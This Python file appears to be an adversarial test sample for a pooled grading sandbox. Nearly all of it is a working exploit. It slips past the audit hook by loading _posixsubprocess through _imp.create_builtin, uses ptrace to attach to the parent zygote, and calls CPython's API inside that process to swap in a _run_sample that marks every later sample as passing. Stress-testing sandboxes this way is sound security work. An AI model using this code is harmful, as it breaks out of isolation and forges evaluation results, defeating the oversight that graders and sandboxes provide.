# Compromises the pooled sandbox: starts a program outside the audit hook (_posixsubprocess through
# _imp.create_builtin) that ptraces the zygote (this sample's parent) and makes it run Python code replacing
# its _run_sample: every later sample of that worker then writes nonce + b"P" whatever it answers (see
# later_wrong_sample.py). Passes only if the zygote ran the injected code; needs the pooled mode (prewarmed).
import _imp
import os
import sys

# Runs as a fresh interpreter (no audit hook): attach, run PyGILState_Ensure, PyRun_SimpleString(ZYGOTE_CODE)
# and PyGILState_Release on the zygote's own thread (each returns to address 0 and stops with SIGSEGV),
# restore its registers (its interrupted waitpid restarts) and detach. x86_64 only.
TRACER = r"""
import ctypes, os, sys
zygote, len_address, source = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3].encode() + b"\0"
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PEEK, POKE, CONT, GETREGS, SETREGS, ATTACH, DETACH, WALL = 2, 5, 7, 12, 13, 16, 17, 0x40000000


class Regs(ctypes.Structure):
    _fields_ = [(name, ctypes.c_ulonglong) for name in (
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
        "fs_base gs_base ds es fs gs").split()]


def ptrace(request, address=0, data=0):
    ctypes.set_errno(0)
    result = libc.ptrace(request, zygote, address, data)
    if result == -1 and ctypes.get_errno():
        raise OSError(ctypes.get_errno(), "ptrace(%d): %s" % (request, os.strerror(ctypes.get_errno())))
    return result


def poke(address, data):
    for offset in range(0, len(data), 8):
        ptrace(POKE, address + offset, int.from_bytes(data[offset:offset + 8].ljust(8, b"\0"), "little"))


def registers():
    value = Regs()
    ptrace(GETREGS, 0, ctypes.addressof(value))
    return value


def stop_signal():
    _, status = os.waitpid(zygote, WALL)
    if not os.WIFSTOPPED(status):
        raise OSError("the zygote did not stop (status %r)" % status)
    return os.WSTOPSIG(status)


def call(saved, function, argument):
    frame = Regs.from_buffer_copy(saved)
    stack = ((saved.rsp - 0x4000) & ~0xF) - 8
    poke(stack, bytes(8))  # return address 0
    frame.rsp, frame.rip, frame.rdi, frame.rax, frame.orig_rax = stack, function, argument, 0, 2**64 - 1
    ptrace(SETREGS, 0, ctypes.addressof(frame))
    ptrace(CONT)
    signal, after = stop_signal(), registers()
    if signal != 11 or after.rip != 0:
        raise OSError("unexpected stop (signal %d at %#x)" % (signal, after.rip))
    return after.rax


# Where the interpreter is loaded in the zygote, relative to here: len's PyMethodDef pointer tells.
mine = ctypes.c_uint64.from_address(id(len) + 16).value
ptrace(ATTACH)
stop_signal()
saved = registers()
shift = (ptrace(PEEK, len_address + 16) & 0xFFFFFFFFFFFFFFFF) - mine
if shift & 0xFFF:
    raise OSError("the zygote does not run this interpreter")


def api(name):
    return ctypes.cast(getattr(ctypes.pythonapi, name), ctypes.c_void_p).value + shift


text = (saved.rsp - 0x1000) & ~0xF
poke(text, source)
state = call(saved, api("PyGILState_Ensure"), 0)
failed = call(saved, api("PyRun_SimpleString"), text)
call(saved, api("PyGILState_Release"), state & 0xFFFFFFFF)
ptrace(SETREGS, 0, ctypes.addressof(saved))
ptrace(DETACH)
sys.stdout.write("injected" if failed == 0 else "PyRun_SimpleString failed")
"""

# Runs in the zygote's __main__ (the harness module): the next samples it forks write a pass with their nonce.
ZYGOTE_CODE = """
def _run_sample(state, frame, verdict_fd):
    os.write(verdict_fd, marshal.loads(frame)[0] + b"P")
    os._exit(0)
"""


class _Spec:
    name = "_posixsubprocess"


def _run(argv):
    posixsubprocess = _imp.create_builtin(_Spec)
    out_read, out_write = os.pipe()
    err_read, err_write = os.pipe()
    fixed = [-1, -1, -1, out_write, -1, out_write, err_read, err_write, True, False, -1, None, None, -1, -1]
    pid = posixsubprocess.fork_exec(
        [os.fsencode(arg) for arg in argv], [os.fsencode(argv[0])], True, (), None, None, *fixed, None, True
    )
    os.close(out_write)
    os.close(err_write)
    chunks = []
    while chunk := os.read(out_read, 1 << 16):
        chunks.append(chunk)
    os.waitpid(pid, 0)
    return b"".join(chunks)


# A one-sample sandbox has bwrap's init (pid 1) as parent: there is no zygote to attack.
_report = b"no zygote (not a pooled run)"
if os.getppid() != 1:
    _report = _run([sys.executable, "-I", "-S", "-c", TRACER, str(os.getppid()), str(id(len)), ZYGOTE_CODE])


def solve(x):
    if _report == b"injected":
        return x * x
    raise RuntimeError(_report.decode("utf-8", "replace")[-900:])
